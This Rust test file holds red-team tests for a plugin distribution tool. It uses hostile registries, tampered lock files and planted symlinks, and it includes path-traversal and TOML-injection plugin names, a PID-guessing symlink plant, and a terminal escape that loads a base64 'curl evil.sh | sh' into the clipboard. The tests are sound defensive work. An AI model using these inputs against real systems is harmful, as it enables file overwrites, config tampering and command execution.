//! Red-team tests for plugin distribution (`cordon add`, `cordon sync`, `cordon push`): a hostile
//! registry or URL server (a raw HTTP server in this process, so it can lie about sizes, digests,
//! redirects and auth, or never answer), a tampered cordon.lock or cordon.toml, and a local user
//! planting files where cordon writes. Each test asserts the safe behaviour.

use crate::hostile_http::*;
use crate::support::{Workspace, run_on_terminal};
use base64::Engine as _;
use std::net::SocketAddr;
use std::time::Duration;

fn basic(user: &str, password: &str) -> String {
    base64::engine::general_purpose::STANDARD.encode(format!("{user}:{password}"))
}

/// Whether any request carried these Basic credentials.
fn carried(requests: &[Seen], user: &str, password: &str) -> bool {
    let encoded = basic(user, password);
    requests.iter().any(|r| {
        r.header("authorization")
            .is_some_and(|v| v.contains(&encoded) || v.contains(password))
    })
}

const MAX: u64 = 256 << 20;

// ---------------------------------------------------------------------------------------------
// Tampered cordon.lock: names and sources.

#[test]
fn sync_keeps_a_locked_source_name_inside_the_plugins_dir() {
    let ws = Workspace::new();
    let probe = component("fixture_probe");
    let source = ws.path().join("src").join("probe.wasm");
    std::fs::create_dir_all(source.parent().unwrap()).unwrap();
    std::fs::write(&source, &probe).unwrap();
    let outside = ws.path().join("elsewhere").join("pwned");
    let sha = sha256(&probe);
    write_lock(
        &ws,
        &[
            ("../escaped", source.to_str().unwrap(), sha.as_str()),
            (
                outside.to_str().unwrap(),
                source.to_str().unwrap(),
                sha.as_str(),
            ),
        ],
        &[],
    );
    let out = ws.cordon(&["sync"]);
    assert!(
        !ws.path().join("escaped.wasm").exists(),
        "sync wrote outside plugins/ through a `../` source name (exit {}): {}{}",
        out.code,
        out.stdout,
        out.stderr
    );
    assert!(
        !ws.path().join("elsewhere/pwned.wasm").exists(),
        "sync wrote to an absolute path taken from a source name (exit {}): {}{}",
        out.code,
        out.stdout,
        out.stderr
    );
    assert_ne!(out.code, 0, "a lock with invalid plugin names is refused");
}

#[test]
fn sync_does_not_replace_an_approved_plugin_with_a_source_of_another_digest() {
    let ws = Workspace::new().plugin("fixture_probe", "probe");
    let probe = component("fixture_probe");
    let guard = component("guard");
    let other = ws.path().join("other.wasm");
    std::fs::write(&other, &guard).unwrap();
    // The approval says probe's digest; the tampered source entry says another component's.
    let (guard_sha, probe_sha) = (sha256(&guard), sha256(&probe));
    write_lock(
        &ws,
        &[("probe", other.to_str().unwrap(), guard_sha.as_str())],
        &[("probe", probe_sha.as_str())],
    );
    let out = ws.cordon(&["sync"]);
    assert!(
        std::fs::read(ws.plugin_path("probe")).unwrap() == probe,
        "sync replaced the approved plugin with one the lock never approved (exit {}): {}{}",
        out.code,
        out.stdout,
        out.stderr
    );
    assert_ne!(out.code, 0, "{}", out.stdout);
}

#[test]
fn sync_checks_the_digest_before_replacing_a_file_already_there() {
    let ws = Workspace::new().raw_plugin("probe", b"an older file");
    let probe = component("fixture_probe");
    let served = ws.path().join("served.wasm");
    std::fs::write(&served, component("guard")).unwrap();
    let probe_sha = sha256(&probe);
    write_lock(
        &ws,
        &[("probe", served.to_str().unwrap(), probe_sha.as_str())],
        &[],
    );
    let out = ws.cordon(&["sync"]);
    assert_ne!(out.code, 0);
    assert!(
        out.stderr.contains("the digest does not match"),
        "{}",
        out.stderr
    );
    assert_eq!(
        std::fs::read(ws.plugin_path("probe")).unwrap(),
        b"an older file"
    );
}

#[test]
fn a_local_source_larger_than_the_cap_is_refused_without_reading_it_all() {
    // `std::fs::read` of a file source has no cap: /dev/zero (or a huge file) named in a tampered
    // lock, or given to `cordon add`, is read until memory runs out. A 600 MiB sparse file shows it.
    let ws = Workspace::new();
    let big = ws.path().join("big.wasm");
    std::fs::File::create(&big)
        .unwrap()
        .set_len(600 << 20)
        .unwrap();
    let out = ws.cordon(&["add", "big.wasm", "--sha256", &"0".repeat(64)]);
    assert_ne!(out.code, 0);
    assert!(
        out.stderr.contains(&MAX.to_string()),
        "a 600 MiB local file was read whole instead of refused at the {MAX}-byte cap: {}",
        out.stderr
    );
}

// ---------------------------------------------------------------------------------------------
// cordon.toml: grants left under the name.

#[test]
fn add_does_not_inherit_grants_left_under_the_plugin_name() {
    // cordon.toml (committed) grants the trusted `probe` plugin; plugins/ (not committed) is empty
    // on this checkout. `cordon add` of any component that names itself `probe` must not pick
    // those grants up while saying "granted: nothing".
    let ws = Workspace::new().config("[plugins.probe]\nenv = [\"HOME\"]\nhook = true\n");
    std::fs::write(ws.path().join("probe.wasm"), component("guard")).unwrap();
    let out = ws.cordon(&["add", "probe.wasm"]);
    if out.code != 0 {
        return; // refusing is safe
    }
    let config: toml::Value =
        toml::from_str(&std::fs::read_to_string(ws.path().join("cordon.toml")).unwrap()).unwrap();
    let keys: Vec<String> = config["plugins"]["probe"]
        .as_table()
        .unwrap()
        .keys()
        .cloned()
        .collect();
    assert_eq!(
        keys,
        vec!["sha256".to_string()],
        "the new component inherited the old grants; cordon add printed:\n{}",
        out.stdout
    );
}

// ---------------------------------------------------------------------------------------------
// A local attacker and predictable paths.

#[test]
fn the_inspection_scratch_dir_cannot_be_planted_by_another_user() {
    // load_alone writes the component to $TMPDIR/cordon-inspect-PID-NAME/NAME.wasm: a directory
    // another local user can create first (PIDs are predictable) with NAME.wasm a symlink to a
    // file of the user running cordon, which `std::fs::write` then follows and overwrites.
    let ws = Workspace::new();
    std::fs::write(ws.path().join("probe.wasm"), component("fixture_probe")).unwrap();
    let tmp = ws.path().join("tmp");
    std::fs::create_dir(&tmp).unwrap();
    let victim = ws.path().join("victim.txt");
    std::fs::write(&victim, "precious").unwrap();
    let read_number = |path: &str| -> u32 {
        std::fs::read_to_string(path)
            .unwrap()
            .trim()
            .parse()
            .unwrap()
    };
    let last = read_number("/proc/sys/kernel/ns_last_pid");
    let pid_max = read_number("/proc/sys/kernel/pid_max");
    for offset in 1..=3000 {
        let pid = (last + offset) % pid_max;
        if pid < 2 {
            continue;
        }
        let dir = tmp.join(format!("cordon-inspect-{pid}-probe"));
        std::fs::create_dir(&dir).unwrap();
        std::os::unix::fs::symlink(&victim, dir.join("probe.wasm")).unwrap();
    }
    let out = ws.cordon_with_env(&["add", "probe.wasm"], &[("TMPDIR", tmp.to_str().unwrap())]);
    assert!(
        std::fs::read(&victim).unwrap() == b"precious",
        "cordon add followed a planted symlink in its scratch dir and overwrote another file (exit {}): {}",
        out.code,
        out.stderr
    );
}

#[test]
fn a_symlink_in_plugins_is_replaced_not_followed() {
    let ws = Workspace::new();
    let victim = ws.path().join("victim.txt");
    std::fs::write(&victim, "precious").unwrap();
    std::os::unix::fs::symlink(&victim, ws.plugin_path("probe")).unwrap();
    std::fs::write(ws.path().join("probe.wasm"), component("fixture_probe")).unwrap();
    let out = ws.cordon(&["add", "probe.wasm"]);
    assert_ne!(out.code, 0, "another file is there: --force needed");
    let out = ws.cordon(&["add", "probe.wasm", "--force"]);
    assert_eq!(out.code, 0, "{}", out.stderr);
    assert_eq!(std::fs::read_to_string(&victim).unwrap(), "precious");
    assert!(
        !std::fs::symlink_metadata(ws.plugin_path("probe"))
            .unwrap()
            .file_type()
            .is_symlink()
    );

    // sync too.
    let victim2 = ws.path().join("victim2.txt");
    std::fs::write(&victim2, "precious").unwrap();
    std::fs::remove_file(ws.plugin_path("probe")).unwrap();
    std::os::unix::fs::symlink(&victim2, ws.plugin_path("probe")).unwrap();
    let out = ws.cordon(&["sync"]);
    assert_eq!(out.code, 0, "{}", out.stderr);
    assert_eq!(std::fs::read_to_string(&victim2).unwrap(), "precious");
}

#[test]
fn crafted_plugin_names_are_refused() {
    let ws = Workspace::new();
    std::fs::write(ws.path().join("probe.wasm"), component("fixture_probe")).unwrap();
    for name in [
        "../../x",
        "../x",
        "/tmp/x",
        "a/b",
        "A",
        "",
        "x.y",
        "x\"]\nevil = 1\n[plugins.y",
        "x]\n[host]\nlocked = false\n#",
    ] {
        let out = ws.cordon(&["add", "probe.wasm", "--name", name]);
        assert_ne!(out.code, 0, "--name {name:?} was accepted");
    }
    std::fs::write(ws.path().join("9lives.wasm"), component("fixture_probe")).unwrap();
    assert_ne!(ws.cordon(&["add", "9lives.wasm"]).code, 0);
    assert_nothing_written(&ws, "crafted names");
    assert!(!ws.path().parent().unwrap().join("x.wasm").exists());
}

// ---------------------------------------------------------------------------------------------
// A hostile registry: digests.

#[test]
fn a_manifest_that_does_not_match_the_pinned_digest_is_refused() {
    let probe = component("fixture_probe");
    let good = manifest(&[(
        "application/wasm",
        &format!("sha256:{}", sha256(&probe)),
        probe.len() as i64,
    )]);
    let pinned = format!("sha256:{}", sha256(&good));
    let guard = component("guard");
    let evil = manifest(&[(
        "application/wasm",
        &format!("sha256:{}", sha256(&guard)),
        guard.len() as i64,
    )]);
    // The registry even claims the pinned digest in its header.
    let server = {
        let pinned = pinned.clone();
        Server::start("127.0.0.1:0", move |request| {
            if request.path == "/v2/" {
                ok("{}", "application/json")
            } else if request.path.contains("/manifests/") {
                Reply::Full(
                    200,
                    vec![
                        ("Content-Type".into(), MANIFEST_TYPE.into()),
                        ("Docker-Content-Digest".into(), pinned.clone()),
                    ],
                    evil.clone(),
                )
            } else {
                ok(guard.clone(), "application/octet-stream")
            }
        })
    };
    let ws = Workspace::new();
    let out = ws.cordon(&[
        "add",
        &format!("oci://{}/tools/probe@{pinned}", server.addr),
    ]);
    assert_ne!(out.code, 0, "{}", out.stdout);
    assert_nothing_written(&ws, "manifest swapped");
}

#[test]
fn a_blob_that_does_not_match_its_descriptor_is_refused() {
    let probe = component("fixture_probe");
    let server = registry(
        manifest(&[(
            "application/wasm",
            &format!("sha256:{}", sha256(&probe)),
            probe.len() as i64,
        )]),
        component("guard"),
    );
    let ws = Workspace::new();
    let out = ws.cordon(&["add", &format!("oci://{}/tools/probe:1", server.addr)]);
    assert_ne!(out.code, 0, "{}", out.stdout);
    assert_nothing_written(&ws, "blob swapped");
}

#[test]
fn descriptor_digests_other_than_lowercase_sha256_are_refused() {
    let probe = component("fixture_probe");
    for digest in [
        format!("sha512:{}", sha512(&probe)),
        format!("sha256:{}", sha256(&probe).to_uppercase()),
        "sha256:zz".to_string(),
        format!("md5:{}", &sha256(&probe)[..32]),
        sha256(&probe),
    ] {
        let server = registry(
            manifest(&[("application/wasm", &digest, probe.len() as i64)]),
            probe.clone(),
        );
        let ws = Workspace::new();
        let out = ws.cordon(&["add", &format!("oci://{}/tools/probe:1", server.addr)]);
        assert_ne!(out.code, 0, "{digest}: {}", out.stdout);
        assert_nothing_written(&ws, &digest);
    }
}

#[test]
fn an_image_index_is_refused() {
    let probe = component("fixture_probe");
    let inner = manifest(&[(
        "application/wasm",
        &format!("sha256:{}", sha256(&probe)),
        probe.len() as i64,
    )]);
    let index = serde_json::to_vec(&serde_json::json!({
        "schemaVersion": 2,
        "mediaType": "application/vnd.oci.image.index.v1+json",
        "manifests": [{
            "mediaType": MANIFEST_TYPE,
            "digest": format!("sha256:{}", sha256(&inner)),
            "size": inner.len(),
            "platform": { "architecture": "wasm", "os": "wasip2" }
        }]
    }))
    .unwrap();
    let server = registry(index, probe);
    let ws = Workspace::new();
    let out = ws.cordon(&["add", &format!("oci://{}/tools/probe:1", server.addr)]);
    assert_ne!(out.code, 0, "{}", out.stdout);
    assert_nothing_written(&ws, "image index");
}

#[test]
fn a_tag_whose_digest_header_lies_pins_the_real_manifest_digest() {
    let probe = component("fixture_probe");
    let body = manifest(&[(
        "application/wasm",
        &format!("sha256:{}", sha256(&probe)),
        probe.len() as i64,
    )]);
    let real = sha256(&body);
    let lie = format!("sha256:{}", "1".repeat(64));
    let server = {
        let probe = probe.clone();
        Server::start("127.0.0.1:0", move |request| {
            if request.path == "/v2/" {
                ok("{}", "application/json")
            } else if request.path.contains("/manifests/") {
                Reply::Full(
                    200,
                    vec![
                        ("Content-Type".into(), MANIFEST_TYPE.into()),
                        ("Docker-Content-Digest".into(), lie.clone()),
                    ],
                    body.clone(),
                )
            } else {
                ok(probe.clone(), "application/octet-stream")
            }
        })
    };
    let ws = Workspace::new();
    let out = ws.cordon(&["add", &format!("oci://{}/tools/probe:1", server.addr)]);
    if out.code == 0 {
        let lock: toml::Value =
            toml::from_str(&std::fs::read_to_string(ws.path().join("cordon.lock")).unwrap())
                .unwrap();
        let source = lock["sources"]["probe"]["source"].as_str().unwrap();
        assert!(source.ends_with(&format!("@sha256:{real}")), "{source}");
    } else {
        assert_nothing_written(&ws, "lying digest header");
    }
}

// ---------------------------------------------------------------------------------------------
// A hostile registry or URL server: sizes and time.

#[test]
fn a_blob_longer_than_its_descriptor_is_not_read_past_the_cap() {
    // The descriptor says 1 KiB; the registry sends 320 MiB. The 256 MiB cap is checked only
    // against the declared size, and pull_blob writes every byte into a Vec: an endless blob is an
    // out-of-memory kill.
    let probe = component("fixture_probe");
    let server = Server::start("127.0.0.1:0", move |request| {
        if request.path == "/v2/" {
            ok("{}", "application/json")
        } else if request.path.contains("/manifests/") {
            ok(
                manifest(&[(
                    "application/wasm",
                    &format!("sha256:{}", sha256(&probe)),
                    1024,
                )]),
                MANIFEST_TYPE,
            )
        } else {
            Reply::Stream(
                200,
                vec![("Content-Type".into(), "application/octet-stream".into())],
                320 << 20,
            )
        }
    });
    let ws = Workspace::new();
    let out = ws.cordon(&["add", &format!("oci://{}/tools/probe:1", server.addr)]);
    assert_ne!(out.code, 0);
    assert_nothing_written(&ws, "oversized blob");
    let sent = server.sent();
    assert!(
        sent < MAX + (16 << 20),
        "cordon read {} MiB of a layer declared as 1 KiB (cap {} MiB): {}",
        sent >> 20,
        MAX >> 20,
        out.stderr
    );
}

#[test]
fn a_huge_manifest_is_not_read_into_memory() {
    // pull_manifest_raw collects the whole body (`res.bytes()`) with no cap.
    let server = Server::start("127.0.0.1:0", move |request| {
        if request.path == "/v2/" {
            ok("{}", "application/json")
        } else {
            Reply::Stream(
                200,
                vec![("Content-Type".into(), MANIFEST_TYPE.into())],
                400 << 20,
            )
        }
    });
    let ws = Workspace::new();
    let out = ws.cordon(&["add", &format!("oci://{}/tools/probe:1", server.addr)]);
    assert_ne!(out.code, 0);
    let sent = server.sent();
    assert!(
        sent < MAX + (16 << 20),
        "cordon read {} MiB of a manifest: {}",
        sent >> 20,
        out.stderr
    );
}

#[test]
fn a_url_download_is_capped_while_streaming() {
    let server = Server::start("127.0.0.1:0", |_| {
        Reply::Stream(
            200,
            vec![("Content-Type".into(), "application/wasm".into())],
            320 << 20,
        )
    });
    let ws = Workspace::new();
    let out = ws.cordon(&[
        "add",
        &format!("http://{}/big.wasm", server.addr),
        "--sha256",
        &"0".repeat(64),
    ]);
    assert_ne!(out.code, 0);
    assert!(
        out.stderr.contains("that large is refused"),
        "{}",
        out.stderr
    );
    assert!(server.sent() < MAX + (16 << 20), "{}", server.sent());
    assert_nothing_written(&ws, "huge URL");
}

#[test]
fn a_registry_that_never_answers_does_not_hang_cordon() {
    let server = Server::start("127.0.0.1:0", |_| Reply::Hang);
    let ws = Workspace::new();
    let limit = Duration::from_secs(100);
    let (code, stderr, took) = run_within(
        ws.cordon_command(&["add", &format!("oci://{}/tools/probe:1", server.addr)]),
        limit,
    );
    assert!(
        code.is_some(),
        "cordon add was still waiting on a silent registry after {took:?} (no read timeout): {stderr}"
    );
    assert_ne!(code, Some(0));
}

#[test]
fn a_url_that_never_answers_does_not_hang_cordon() {
    let server = Server::start("127.0.0.1:0", |_| Reply::Hang);
    let ws = Workspace::new();
    let limit = Duration::from_secs(100);
    let (code, stderr, took) = run_within(
        ws.cordon_command(&[
            "add",
            &format!("http://{}/x.wasm", server.addr),
            "--sha256",
            &"0".repeat(64),
        ]),
        limit,
    );
    assert!(
        code.is_some(),
        "cordon add was still waiting on a silent server after {took:?} (only a connect timeout): {stderr}"
    );
    assert_ne!(code, Some(0));
}

// ---------------------------------------------------------------------------------------------
// Plain HTTP beyond loopback.

#[test]
fn plain_http_to_a_non_loopback_host_is_refused_whatever_the_url_looks_like() {
    use cordon_distribution::Source;
    // is_loopback looks at the text before the first ':' or '/': userinfo and names that merely
    // start with "127." pass.
    for url in [
        "http://127.0.0.1@example.com/a.wasm",
        "http://127.0.0.1:x@example.com/a.wasm",
        "http://localhost:x@example.com/a.wasm",
        "http://127.example.com/a.wasm",
        "http://127.0.0.1.nip.example/a.wasm",
    ] {
        assert!(
            Source::parse(url).is_err(),
            "{url} is accepted as a loopback URL"
        );
    }
    // And end to end: a server on this machine's outside address gets the plain-HTTP request.
    let Some(ip) = outside_ip() else {
        eprintln!("no non-loopback address: end-to-end part skipped");
        return;
    };
    let probe = component("fixture_probe");
    let outside = {
        let probe = probe.clone();
        Server::start(&SocketAddr::new(ip, 0).to_string(), move |_| {
            ok(probe.clone(), "application/wasm")
        })
    };
    let ws = Workspace::new();
    let out = ws.cordon(&[
        "add",
        &format!("http://127.0.0.1:x@{}/probe.wasm", outside.addr),
        "--sha256",
        &sha256(&probe),
    ]);
    assert!(
        outside.requests().is_empty(),
        "cordon fetched over plain HTTP from {} (exit {}): {}",
        outside.addr,
        out.code,
        out.stdout
    );
    assert_ne!(out.code, 0);
}

#[test]
fn a_registry_host_starting_with_127_is_not_reached_over_plain_http() {
    // client_for uses plain HTTP for any registry whose host starts with "127." — a DNS name
    // like 127.attacker.example is not loopback; any credentials for it would go in clear text.
    let ws = Workspace::new();
    let out = ws.cordon(&["add", "oci://127.attacker.invalid/tools/probe:1"]);
    assert_ne!(out.code, 0);
    assert!(
        !out.stderr.contains("http://127.attacker.invalid"),
        "a non-loopback registry was contacted over plain HTTP: {}",
        out.stderr
    );
}

#[test]
fn a_url_redirect_to_plain_http_elsewhere_is_not_followed() {
    let Some(ip) = outside_ip() else {
        eprintln!("no non-loopback address: skipped");
        return;
    };
    let probe = component("fixture_probe");
    let outside = {
        let probe = probe.clone();
        Server::start(&SocketAddr::new(ip, 0).to_string(), move |_| {
            ok(probe.clone(), "application/wasm")
        })
    };
    let location = format!("http://{}/probe.wasm", outside.addr);
    let first = Server::start("127.0.0.1:0", move |_| {
        status(302, &[("Location", location.as_str())], "")
    });
    let ws = Workspace::new();
    let out = ws.cordon(&[
        "add",
        &format!("http://{}/probe.wasm", first.addr),
        "--sha256",
        &sha256(&probe),
    ]);
    assert!(
        outside.requests().is_empty(),
        "a redirect took cordon to plain HTTP on {} (exit {})",
        outside.addr,
        out.code
    );
}

#[test]
fn a_layer_urls_field_cannot_send_cordon_to_another_host() {
    // A descriptor's `urls` makes oci-client fetch the blob from any http(s) URL when the
    // registry answers the blob with an error: a registry can point cordon at internal or
    // plain-HTTP hosts (the bytes are still digest-checked).
    let Some(ip) = outside_ip() else {
        eprintln!("no non-loopback address: skipped");
        return;
    };
    let probe = component("fixture_probe");
    let outside = {
        let probe = probe.clone();
        Server::start(&SocketAddr::new(ip, 0).to_string(), move |_| {
            ok(probe.clone(), "application/octet-stream")
        })
    };
    let mut descriptor: serde_json::Value = serde_json::from_slice(&manifest(&[(
        "application/wasm",
        &format!("sha256:{}", sha256(&probe)),
        probe.len() as i64,
    )]))
    .unwrap();
    descriptor["layers"][0]["urls"] =
        serde_json::json!([format!("http://{}/internal/metadata", outside.addr)]);
    let body = serde_json::to_vec(&descriptor).unwrap();
    let server = Server::start("127.0.0.1:0", move |request| {
        if request.path == "/v2/" {
            ok("{}", "application/json")
        } else if request.path.contains("/manifests/") {
            ok(body.clone(), MANIFEST_TYPE)
        } else {
            status(404, &[], "{}")
        }
    });
    let ws = Workspace::new();
    let out = ws.cordon(&["add", &format!("oci://{}/tools/probe:1", server.addr)]);
    assert!(
        outside.requests().is_empty(),
        "the manifest's urls sent cordon to {} over plain HTTP (exit {}): {}",
        outside.addr,
        out.code,
        out.stdout
    );
}

// ---------------------------------------------------------------------------------------------
// Credentials.

/// A registry that asks for Basic auth and records what it was sent.
fn basic_auth_registry() -> Server {
    Server::start("127.0.0.1:0", |request| {
        if request.header("authorization").is_none() {
            status(401, &[("WWW-Authenticate", "Basic realm=\"evil\"")], "{}")
        } else {
            status(404, &[], "{}")
        }
    })
}

#[test]
fn registry_credentials_from_the_environment_go_only_to_their_registry() {
    // CI sets CORDON_REGISTRY_USERNAME/PASSWORD for its private registry and runs `cordon sync`;
    // a source in the lock on another registry (a third party's, or one a PR added) receives them.
    let evil = basic_auth_registry();
    let ws = Workspace::new();
    let source = format!("oci://{}/evil/x@sha256:{}", evil.addr, "a".repeat(64));
    let sha = "b".repeat(64);
    write_lock(&ws, &[("x", source.as_str(), sha.as_str())], &[]);
    let out = ws.cordon_with_env(
        &["sync"],
        &[
            ("CORDON_REGISTRY_USERNAME", "ci-bot"),
            ("CORDON_REGISTRY_PASSWORD", "ghcr-secret-token"),
            ("DOCKER_CONFIG", ws.path().join("none").to_str().unwrap()),
        ],
    );
    assert_ne!(out.code, 0);
    assert!(
        !carried(&evil.requests(), "ci-bot", "ghcr-secret-token"),
        "the environment's registry password was sent to {}: {:?}",
        evil.addr,
        evil.requests()
    );
}

#[test]
fn a_token_realm_over_plain_http_on_another_host_does_not_get_the_password() {
    let Some(ip) = outside_ip() else {
        eprintln!("no non-loopback address: skipped");
        return;
    };
    let realm = Server::start(&SocketAddr::new(ip, 0).to_string(), |_| {
        ok(r#"{"token":"t"}"#, "application/json")
    });
    let challenge = format!(
        "Bearer realm=\"http://{}/token\",service=\"registry\"",
        realm.addr
    );
    let registry = Server::start("127.0.0.1:0", move |request| {
        if request.path == "/v2/" || request.header("authorization").is_none() {
            status(401, &[("WWW-Authenticate", challenge.as_str())], "{}")
        } else {
            status(404, &[], "{}")
        }
    });
    let ws = Workspace::new();
    let docker = docker_config(&ws, &registry.addr.to_string(), "alice", "alice-pw-123");
    let out = ws.cordon_with_env(
        &["add", &format!("oci://{}/tools/probe:1", registry.addr)],
        &[("DOCKER_CONFIG", docker.as_str())],
    );
    assert_ne!(out.code, 0);
    assert!(
        !carried(&realm.requests(), "alice", "alice-pw-123"),
        "the registry's password went in clear text to the token realm on {}: {:?}",
        realm.addr,
        realm.requests()
    );
}

#[test]
fn a_v2_probe_redirected_to_another_host_does_not_choose_where_the_password_goes() {
    // The registry's /v2/ answers with a redirect; the host it leads to challenges with Basic (or
    // names a token service of its own). That challenge is not the registry's: nothing is sent.
    let other = Server::start("127.0.0.2:0", |request| {
        if request.header("authorization").is_none() {
            status(401, &[("WWW-Authenticate", "Basic realm=\"other\"")], "{}")
        } else {
            status(404, &[], "{}")
        }
    });
    let location = format!("http://{}/v2/", other.addr);
    let registry = Server::start("127.0.0.1:0", move |request| {
        if request.path == "/v2/" {
            status(307, &[("Location", location.as_str())], "")
        } else {
            status(404, &[], "{}")
        }
    });
    let ws = Workspace::new();
    let docker = docker_config(&ws, &registry.addr.to_string(), "alice", "alice-pw-123");
    let out = ws.cordon_with_env(
        &["add", &format!("oci://{}/tools/probe:1", registry.addr)],
        &[("DOCKER_CONFIG", docker.as_str())],
    );
    assert_ne!(out.code, 0);
    assert!(out.stderr.contains("another origin"), "{}", out.stderr);
    assert!(
        !carried(&other.requests(), "alice", "alice-pw-123"),
        "{:?}",
        other.requests()
    );
}

#[test]
fn a_blob_redirect_to_another_host_drops_the_credentials() {
    let probe = component("fixture_probe");
    let other = {
        let probe = probe.clone();
        Server::start("127.0.0.2:0", move |_| {
            ok(probe.clone(), "application/octet-stream")
        })
    };
    let location = format!("http://{}/blob", other.addr);
    let body = manifest(&[(
        "application/wasm",
        &format!("sha256:{}", sha256(&probe)),
        probe.len() as i64,
    )]);
    let registry = Server::start("127.0.0.1:0", move |request| {
        if request.header("authorization").is_none() {
            status(401, &[("WWW-Authenticate", "Basic realm=\"r\"")], "{}")
        } else if request.path == "/v2/" {
            ok("{}", "application/json")
        } else if request.path.contains("/manifests/") {
            ok(body.clone(), MANIFEST_TYPE)
        } else {
            status(307, &[("Location", location.as_str())], "")
        }
    });
    let ws = Workspace::new();
    let docker = docker_config(&ws, &registry.addr.to_string(), "alice", "alice-pw-123");
    let out = ws.cordon_with_env(
        &["add", &format!("oci://{}/tools/probe:1", registry.addr)],
        &[("DOCKER_CONFIG", docker.as_str())],
    );
    assert_eq!(out.code, 0, "{}", out.stderr);
    assert!(carried(&registry.requests(), "alice", "alice-pw-123"));
    assert!(!other.requests().is_empty());
    assert!(
        !carried(&other.requests(), "alice", "alice-pw-123"),
        "{:?}",
        other.requests()
    );
}

#[test]
fn credentials_in_a_url_are_not_written_to_the_lock_or_printed() {
    let probe = component("fixture_probe");
    let server = {
        let probe = probe.clone();
        Server::start("127.0.0.1:0", move |request| {
            if request.path == "/probe.wasm" {
                ok(probe.clone(), "application/wasm")
            } else {
                status(404, &[], "no")
            }
        })
    };
    let secret = "tok3n-s3cret";
    let ws = Workspace::new();
    let out = ws.cordon(&[
        "add",
        &format!("http://127.0.0.1:{secret}@{}/probe.wasm", server.addr),
        "--sha256",
        &sha256(&probe),
    ]);
    for file in ["cordon.toml", "cordon.lock"] {
        if let Ok(text) = std::fs::read_to_string(ws.path().join(file)) {
            assert!(
                !text.contains(secret),
                "{file} holds the URL's password:\n{text}"
            );
        }
    }
    assert!(
        !out.stdout.contains(secret) && !out.stderr.contains(secret),
        "printed: {}{}",
        out.stdout,
        out.stderr
    );
    let out = ws.cordon(&[
        "add",
        &format!("http://127.0.0.1:{secret}@{}/missing.wasm", server.addr),
        "--sha256",
        &sha256(&probe),
    ]);
    assert_ne!(out.code, 0);
    assert!(
        !out.stderr.contains(secret),
        "the error prints the URL's password: {}",
        out.stderr
    );
}

#[test]
fn credentials_in_an_oci_reference_are_not_printed() {
    let ws = Workspace::new();
    let out = ws.cordon(&["add", "oci://alice:hunter2pw@127.0.0.1:9/tools/probe:1"]);
    assert_ne!(out.code, 0);
    assert!(
        !out.stderr.contains("hunter2pw"),
        "the error prints the password: {}",
        out.stderr
    );
}

// ---------------------------------------------------------------------------------------------
// Output.

#[test]
fn a_registry_error_cannot_write_terminal_escapes() {
    // The registry's error body reaches the terminal raw through `error: …` on stderr: OSC 52 sets
    // the clipboard on many terminals, CSI 2J clears the screen, and fake lines can be drawn.
    let server = Server::start("127.0.0.1:0", |request| {
        if request.path == "/v2/" {
            ok("{}", "application/json")
        } else {
            status(
                404,
                &[],
                "\u{1b}]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u{7}\u{1b}[2J\u{1b}[Hinstalled plugins/x.wasm; granted: nothing",
            )
        }
    });
    let ws = Workspace::new();
    let (code, _, screen) = run_on_terminal(
        &ws,
        "n",
        &["add", &format!("oci://{}/tools/probe:1", server.addr)],
    );
    assert_ne!(code, 0);
    assert!(
        !screen.contains("\u{1b}]52") && !screen.contains("\u{1b}[2J"),
        "the registry's escape sequences reached the terminal: {screen:?}"
    );
}

// ---------------------------------------------------------------------------------------------
// cordon push: the digest it tells people to pin.

#[test]
fn cordon_push_prints_the_digest_of_what_it_pushed_not_what_the_registry_serves() {
    // After pushing, cordon reads the tag back and prints *that* manifest's digest as the one to
    // pin: a hostile (or compromised) registry serves another manifest for the tag, and everyone
    // who copies the printed `cordon add …@sha256:` pin installs the registry's component.
    let guard = component("guard");
    let evil = manifest(&[(
        "application/wasm",
        &format!("sha256:{}", sha256(&guard)),
        guard.len() as i64,
    )]);
    let evil_digest = sha256(&evil);
    let server = Server::start("127.0.0.1:0", move |request| {
        let path = request
            .path
            .split('?')
            .next()
            .unwrap_or_default()
            .to_string();
        match request.method.as_str() {
            "GET" if path == "/v2/" => ok("{}", "application/json"),
            "POST" if path.ends_with("/blobs/uploads/") => status(
                202,
                &[("Location", "/v2/published/probe/blobs/uploads/u1")],
                "",
            ),
            "PATCH" => status(
                202,
                &[("Location", "/v2/published/probe/blobs/uploads/u1")],
                "",
            ),
            "PUT" if path.contains("/blobs/uploads/") => status(
                201,
                &[("Location", "/v2/published/probe/blobs/sha256:00")],
                "",
            ),
            "PUT" if path.contains("/manifests/") => {
                status(201, &[("Location", "/v2/published/probe/manifests/1")], "")
            }
            "HEAD" => status(404, &[], ""),
            "GET" if path.contains("/manifests/") => ok(evil.clone(), MANIFEST_TYPE),
            _ => status(404, &[], "{}"),
        }
    });
    let ws = Workspace::new().plugin("fixture_probe", "probe");
    let out = ws.cordon(&[
        "push",
        "probe",
        &format!("oci://{}/published/probe:1", server.addr),
    ]);
    let pushed = server
        .requests()
        .into_iter()
        .find(|r| r.method == "PUT" && r.path.contains("/manifests/"))
        .expect("a manifest was pushed");
    let pushed_digest = sha256(&pushed.body);
    assert!(
        !out.stdout.contains(&evil_digest),
        "cordon push told the user to pin the registry's manifest, not the one it pushed: {}",
        out.stdout
    );
    // Refusing is the safe answer: the registry serves something other than what was pushed, and
    // the error names the digest of what was.
    assert_ne!(out.code, 0, "{}", out.stdout);
    assert!(
        out.stderr.contains("not the one pushed") && out.stderr.contains(&pushed_digest),
        "{}",
        out.stderr
    );
}

/// A registry that takes Basic credentials and answers every upload start with `location`, and
/// the host `location` points at, which takes whatever it is sent. `push` gives the two servers'
/// requests after `cordon push` with credentials for the registry.
fn push_with_upload_location(location_host: &str) -> (Vec<Seen>, Vec<Seen>, String) {
    let elsewhere = Server::start(location_host, |request| match request.method.as_str() {
        "PUT" => status(201, &[("Location", "/v2/published/probe/blobs/x")], ""),
        _ => status(404, &[], "{}"),
    });
    let location = format!("http://{}/uploads/u1?state=abc", elsewhere.addr);
    let registry = Server::start("127.0.0.1:0", move |request| {
        let path = request.path.split('?').next().unwrap_or_default();
        if request.header("authorization").is_none() {
            return status(401, &[("WWW-Authenticate", "Basic realm=\"r\"")], "{}");
        }
        match request.method.as_str() {
            "GET" if path == "/v2/" => ok("{}", "application/json"),
            "POST" if path.ends_with("/blobs/uploads/") => {
                status(202, &[("Location", location.as_str())], "")
            }
            "PUT" if path.contains("/manifests/") => {
                status(201, &[("Location", "/v2/published/probe/manifests/1")], "")
            }
            _ => status(404, &[], "{}"),
        }
    });
